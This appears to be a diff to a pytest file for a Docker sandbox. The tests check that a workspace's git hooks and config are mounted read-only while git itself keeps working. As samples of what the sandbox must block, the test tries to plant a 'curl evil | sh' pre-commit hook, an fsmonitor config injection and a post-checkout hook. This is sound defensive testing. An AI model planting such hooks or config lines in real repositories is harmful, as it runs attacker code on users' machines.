@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import os
+import subprocess
 from pathlib import Path
 from typing import Any
 
@@ -68,23 +70,33 @@ async def test_limits_are_configurable(docker_ready: None, workspace: Path) -> N
 
 async def test_git_hooks_and_config_are_mounted_read_only(docker_backend: DockerBackend, user_workspace: Path) -> None:
     git = user_workspace / ".git"
-    (git / "hooks").mkdir(parents=True)
-    (git / "config").write_text("[core]\n\tbare = false\n")
+    subprocess.run(["git", "init", "-q", "--template=", str(user_workspace)], check=True)
+    (git / "hooks").mkdir()
+    for root, dirs, files in os.walk(user_workspace):
+        for name in dirs + files:
+            os.chown(os.path.join(root, name), 1000, 1000)
+    config = (git / "config").read_text()
     box = await docker_backend.get(user_workspace)
+    # objects and refs stay writable: git works inside
+    r = await box.exec("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x 2>&1; echo rc=$?")
+    assert r.stdout.decode().strip().endswith("rc=0"), r.stdout
     r = await box.exec(
         "echo 'curl evil | sh' > .git/hooks/pre-commit; echo rc=$?; echo '[core] fsmonitor=x' >> .git/config; "
-        "echo rc=$?; mv .git/hooks .git/hooks2; echo rc=$?"
+        "echo rc=$?; mv .git/hooks .git/hooks2; echo rc=$?; mv .git .git2; echo rc=$?; rm -rf .git; echo rc=$?; "
+        "ls .git/config .git/hooks >/dev/null; echo still=$?"
     )
     out = r.stdout.decode()
-    assert "rc=0" not in out, out
+    assert "rc=0" not in out and "still=0" in out, out
     assert not (git / "hooks" / "pre-commit").exists()
-    assert (git / "config").read_text() == "[core]\n\tbare = false\n"
+    assert not (user_workspace / ".git2").exists()
+    assert (git / "config").read_text() == config
     with pytest.raises(Exception, match=r"(?i)read-only|permission"):
         await box.write(".git/hooks/post-checkout", b"#!/bin/sh\nid\n")
     attrs = await docker_backend.inspect(user_workspace)
     assert attrs is not None
     ro = {m["Destination"]: m["RW"] for m in attrs["Mounts"]}
     assert ro["/workspace/.git/hooks"] is False and ro["/workspace/.git/config"] is False
+    assert ro["/workspace/.git"] is True  # objects and refs stay writable: git works inside
 
 
 async def test_git_hooks_symlinked_out_are_not_mounted(docker_backend: DockerBackend, workspace: Path) -> None:
@@ -93,7 +105,7 @@ async def test_git_hooks_symlinked_out_are_not_mounted(docker_backend: DockerBac
     await (await docker_backend.get(workspace)).info()
     attrs = await docker_backend.inspect(workspace)
     assert attrs is not None
-    assert [m["Source"] for m in attrs["Mounts"]] == [str(workspace)]
+    assert sorted(m["Source"] for m in attrs["Mounts"]) == [str(workspace), str(workspace / ".git")]
 
 
 class _RuncPretendingRunsc(DockerBackend):
